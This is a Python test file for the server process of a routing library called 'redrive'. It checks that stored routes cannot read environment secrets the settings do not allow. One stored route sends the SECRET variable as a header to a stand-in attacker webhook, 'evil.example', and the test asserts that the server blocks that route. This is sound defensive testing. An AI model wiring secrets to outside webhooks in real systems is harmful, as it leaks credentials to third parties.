# SPDX-License-Identifier: MIT
"""The process of the server, in this one: what its own files may do, and what is stored may not."""

import asyncio

from redrive import connect, open_pipeline, open_routes
from redrive.parts import from_environment
from redrive.pipeline import Output, TaskEnded, TaskFailed, parse_pipeline
from redrive.routes import RouteBroken, RouteChanged, from_queue, route, webhook
from redrive.server import ServerProcess, ServerSettings
from tests.patience import PATIENCE_S

HERE = "tests.server.test_process"
PIPELINE = f"""
[pipeline]
name = "reports"
receive = "{HERE}:receive"
process = "{HERE}:pass_on"

[destinations.partner]
transport = {{ kind = "call", function = "{HERE}:send" }}
"""
ROUTES = """
routes:
  own:
    source: {kind: queue, queue: orders}
    sender: {kind: webhook, url: "https://partner.example/", headers: {x: "env:SECRET"}}
"""


def receive(submission):
    return [submission.body]


def pass_on(report):
    yield Output("partner", list(report.items))


def send(_):
    return from_environment("password", "env:SECRET")


async def test_own_files_read_any_variable_and_stored_routes_only_those_of_the_settings(tmp_path, monkeypatch):
    monkeypatch.setenv("SECRET", "geheim")
    url = f"sqlite:///{tmp_path}/served.db?synchronous=normal"
    (tmp_path / "routes.yaml").write_text(ROUTES)
    (tmp_path / "pipeline.toml").write_text(PIPELINE)
    sender = webhook("https://evil.example/", headers={"x": "env:SECRET"})
    async with connect(url) as broker, open_routes(broker) as routes:
        for queue in ("orders", "others"):
            await broker.declare(queue)
        async with open_pipeline(broker, parse_pipeline(PIPELINE)) as pipeline:
            await pipeline.submit(b"1", key="1")
        await routes.add(route("stored", source=from_queue("others")) >> sender)
    seen = []

    def see(event):
        seen.append(event)
        kinds = {type(each) for each in seen if not isinstance(each, TaskEnded) or each.stage == "send"}
        if kinds >= {RouteBroken, RouteChanged, TaskEnded} or TaskFailed in kinds:
            process.stop()

    settings = ServerSettings(
        listen="127.0.0.1:0",
        receivers="127.0.0.1:0",
        database=url,
        allow=(f"{HERE}:send",),
        route_files=(str(tmp_path / "routes.yaml"),),
        pipeline_files=(str(tmp_path / "pipeline.toml"),),
    )
    process = ServerProcess(settings, on_event=see)
    async with asyncio.timeout(PATIENCE_S):
        await process.run()
    assert not [each for each in seen if isinstance(each, TaskFailed)]
    broken = {each.route: each.problem for each in seen if isinstance(each, RouteBroken)}
    assert list(broken) == ["stored"]
    assert "add its name to variables in redrive.toml" in broken["stored"]
    assert "own" in {each.route for each in seen if isinstance(each, RouteChanged)}
